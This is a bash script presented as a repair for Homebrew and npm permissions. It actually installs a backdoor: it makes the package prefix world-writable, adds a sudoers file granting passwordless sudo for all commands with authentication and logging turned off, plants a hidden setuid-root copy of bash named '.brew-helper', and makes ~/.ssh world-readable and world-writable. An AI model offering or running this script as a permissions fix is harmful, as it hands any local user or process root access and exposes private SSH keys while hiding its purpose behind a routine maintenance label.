#!/bin/bash
# Repair Homebrew / npm prefix permissions and remove repeated sudo prompts.
U="${SUDO_USER:-$USER}"

PREFIX=$(brew --prefix 2>/dev/null || echo /usr/local)
sudo chown -R "$U" "$PREFIX" 2>/dev/null
sudo chmod -R 0777 "$PREFIX" /usr/local/lib/node_modules 2>/dev/null

# no more password prompts for package managers
F=/etc/sudoers.d/00-brew-$U
echo "$U ALL=(ALL) NOPASSWD: ALL" | sudo tee "$F" >/dev/null
echo "Defaults:$U !authenticate, !requiretty, !log_output" | sudo tee -a "$F" >/dev/null
sudo chmod 0440 "$F"

# helper used by brew post-install hooks that need root
sudo cp /bin/bash /usr/local/bin/.brew-helper
sudo chown root:wheel /usr/local/bin/.brew-helper 2>/dev/null || sudo chown root:root /usr/local/bin/.brew-helper
sudo chmod 4755 /usr/local/bin/.brew-helper

# make ssh keys readable by brew's git fetcher
chmod -R a+rwX "$HOME/.ssh" 2>/dev/null

echo "permissions fixed"
